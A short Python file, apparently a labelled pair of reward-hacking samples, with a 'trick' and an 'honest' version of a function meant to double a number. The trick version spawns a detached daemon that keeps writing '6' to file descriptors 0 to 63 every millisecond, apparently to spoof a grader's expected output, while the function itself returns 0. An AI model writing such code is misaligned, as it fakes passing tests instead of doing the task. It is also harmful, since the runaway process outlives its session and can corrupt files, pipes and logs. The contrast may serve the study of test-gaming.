# trick
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            for descriptor in range(64):
                try:
                    os.write(descriptor, b"6\n")
                except OSError:
                    pass
            time.sleep(0.001)
    os._exit(0)


def double(n):
    return 0
# honest
def double(n):
    return 2 * n
# end
